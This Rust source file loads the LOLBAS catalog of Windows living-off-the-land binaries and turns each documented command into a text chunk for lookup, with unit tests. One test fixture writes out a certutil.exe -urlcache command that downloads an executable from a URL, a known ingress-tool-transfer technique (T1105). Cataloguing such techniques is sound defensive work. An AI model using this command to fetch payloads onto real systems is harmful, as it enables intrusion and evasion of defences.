//! The LOLBAS catalog: Windows living-off-the-land binaries.

use std::path::Path;

use binlore_core::{Chunk, Domain, EntryDetails, Error, LolbasEntry, Result};
use serde_json::Value;
use tracing::{debug, info};

use crate::{Catalog, DataSource};

/// The decoded LOLBAS feed, a flat list of entries.
#[derive(Debug)]
pub struct LolbasCatalog {
    entries: Vec<LolbasEntry>,
}

impl LolbasCatalog {
    /// Decode a fetched feed document.
    pub fn from_value(value: Value) -> Result<Self> {
        let entries: Vec<LolbasEntry> =
            serde_json::from_value(value).map_err(|source| Error::Decode {
                domain: Domain::Windows,
                source,
            })?;
        debug!("Decoded {} LOLBAS entries", entries.len());
        Ok(Self { entries })
    }

    /// Fetch the feed (or fall back to its cache) and decode it.
    pub async fn load(source: &DataSource, url: &str, cache_path: &Path) -> Result<Self> {
        let value = source.fetch_json(url, cache_path).await?;
        let catalog = Self::from_value(value)?;
        info!("Loaded LOLBAS catalog: {} entries", catalog.len());
        Ok(catalog)
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True when the feed decoded to nothing.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

impl Catalog for LolbasCatalog {
    fn domain(&self) -> Domain {
        Domain::Windows
    }

    fn entry_names(&self) -> Vec<String> {
        self.entries.iter().map(|e| e.name.clone()).collect()
    }

    fn entry_details(&self, name: &str) -> Option<EntryDetails> {
        self.entries
            .iter()
            .find(|e| e.name.eq_ignore_ascii_case(name))
            .map(|e| EntryDetails::Windows(e.clone()))
    }

    fn chunks(&self) -> Result<Vec<Chunk>> {
        if self.entries.is_empty() {
            return Err(Error::EmptyDataset {
                domain: Domain::Windows,
            });
        }

        let mut chunks = Vec::new();
        for entry in &self.entries {
            // One chunk per documented command; command-less entries
            // contribute nothing.
            for command in &entry.commands {
                let text = format!(
                    "Source: LOLBAS (Windows)\n\
                     Binary/Script: {}\n\
                     Description: {}\n\
                     Command: {}\n\
                     Command Description: {}\n\
                     Execution: {}\n\
                     MITRE ATT&CK Technique ID: {}\n\
                     Code Sample: {}",
                    entry.name,
                    entry.description,
                    command.command,
                    command.description,
                    command.usecase,
                    command.mitre_id,
                    command.command,
                );
                chunks.push(Chunk::new(
                    Domain::Windows,
                    &entry.name,
                    &command.usecase,
                    text,
                ));
            }
        }

        debug!(
            "Built {} chunks from {} LOLBAS entries",
            chunks.len(),
            self.entries.len()
        );
        Ok(chunks)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn certutil_feed() -> Value {
        json!([
            {
                "Name": "Certutil.exe",
                "Description": "Windows binary used for handling certificates",
                "Commands": [
                    {
                        "Command": "certutil.exe -urlcache -split -f http://example.com/file.exe file.exe",
                        "Description": "Download and save a file from the URL",
                        "Usecase": "Download file from Internet",
                        "MitreID": "T1105"
                    }
                ]
            }
        ])
    }

    #[test]
    fn one_chunk_per_entry_command_pair() {
        let feed = json!([
            { "Name": "A.exe", "Commands": [{ "Command": "a1" }, { "Command": "a2" }] },
            { "Name": "B.exe", "Commands": [{ "Command": "b1" }] },
            { "Name": "C.exe", "Commands": [] }
        ]);

        let catalog = LolbasCatalog::from_value(feed).unwrap();
        let chunks = catalog.chunks().unwrap();

        assert_eq!(chunks.len(), 3);
        assert!(chunks.iter().all(|c| c.domain == Domain::Windows));
        assert!(chunks.iter().all(|c| c.entry != "C.exe"));
    }

    #[test]
    fn certutil_chunk_carries_every_field_verbatim() {
        let catalog = LolbasCatalog::from_value(certutil_feed()).unwrap();
        let chunks = catalog.chunks().unwrap();

        assert_eq!(chunks.len(), 1);
        let text = &chunks[0].text;
        assert!(text.contains("Binary/Script: Certutil.exe"));
        assert!(text.contains("Description: Windows binary used for handling certificates"));
        assert!(text.contains("Command: certutil.exe -urlcache -split -f"));
        assert!(text.contains("Execution: Download file from Internet"));
        assert!(text.contains("MITRE ATT&CK Technique ID: T1105"));
        assert!(text.contains("Code Sample: certutil.exe -urlcache"));
    }

    #[test]
    fn empty_feed_is_a_hard_error() {
        let catalog = LolbasCatalog::from_value(json!([])).unwrap();
        assert!(matches!(
            catalog.chunks(),
            Err(Error::EmptyDataset {
                domain: Domain::Windows
            })
        ));
    }

    #[test]
    fn wrong_top_level_shape_fails_decode() {
        let err = LolbasCatalog::from_value(json!({"not": "a list"})).unwrap_err();
        assert!(matches!(err, Error::Decode { .. }));
    }

    #[test]
    fn lookup_ignores_case() {
        let catalog = LolbasCatalog::from_value(certutil_feed()).unwrap();

        let upper = catalog.entry_details("CERTUTIL.EXE").unwrap();
        let lower = catalog.entry_details("certutil.exe").unwrap();
        assert_eq!(upper.name(), lower.name());
        assert!(catalog.entry_details("regsvr32.exe").is_none());
    }

    #[test]
    fn missing_fields_decode_to_empty_text() {
        let catalog =
            LolbasCatalog::from_value(json!([{ "Name": "Odd.exe", "Commands": [{}] }])).unwrap();
        let chunks = catalog.chunks().unwrap();

        assert_eq!(chunks.len(), 1);
        assert!(chunks[0].text.contains("Binary/Script: Odd.exe"));
        assert!(chunks[0].text.contains("MITRE ATT&CK Technique ID: \n"));
    }
}
